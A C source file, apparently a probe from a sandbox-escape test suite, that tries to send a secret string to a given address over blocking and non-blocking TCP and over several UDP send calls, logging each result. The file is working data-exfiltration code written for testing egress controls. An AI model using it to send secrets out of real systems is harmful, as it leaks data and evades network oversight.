// Sends a secret to an address in every plain way: exfiltrate ADDRESS TCPPORT UDPPORT SECRET
#include <poll.h>

#include "attack.h"

static void Stream(const char* address, int port, const char* secret, int nonblocking) {
  struct sockaddr_in to = Ipv4(address, port);
  int fd = socket(AF_INET, SOCK_STREAM | (nonblocking ? SOCK_NONBLOCK : 0), 0);
  long result = connect(fd, (struct sockaddr*)&to, sizeof to);
  if (result < 0 && errno == EINPROGRESS) {
    struct pollfd wait = {fd, POLLOUT, 0};
    poll(&wait, 1, 3000);
    socklen_t size = sizeof(int);
    int error = 0;
    getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size);
    errno = error;
    result = error ? -1 : 0;
  }
  Result(nonblocking ? "tcp non-blocking connect" : "tcp connect", result);
  if (result == 0) Result("tcp write", write(fd, secret, strlen(secret)));
  close(fd);
}

static void Datagrams(const char* address, int port, const char* secret) {
  struct sockaddr_in to = Ipv4(address, port);
  size_t length = strlen(secret);
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  Result("udp sendto", sendto(fd, secret, length, 0, (struct sockaddr*)&to, sizeof to));
  struct iovec data = {(void*)secret, length};
  struct mmsghdr messages[2];
  memset(messages, 0, sizeof messages);
  for (int i = 0; i < 2; ++i) {
    messages[i].msg_hdr.msg_name = &to;
    messages[i].msg_hdr.msg_namelen = sizeof to;
    messages[i].msg_hdr.msg_iov = &data;
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  Result("udp sendmsg", sendmsg(fd, &messages[0].msg_hdr, 0));
  Result("udp sendmmsg", sendmmsg(fd, messages, 2, 0));
  long result = connect(fd, (struct sockaddr*)&to, sizeof to);
  Result("udp connect", result);
  if (result == 0) Result("udp write", write(fd, secret, length));
  close(fd);
}

int main(int argc, char** argv) {
  if (argc < 5) return 2;
  Stream(argv[1], atoi(argv[2]), argv[4], 0);
  Stream(argv[1], atoi(argv[2]), argv[4], 1);
  Datagrams(argv[1], atoi(argv[3]), argv[4]);
  Done();
  return 0;
}
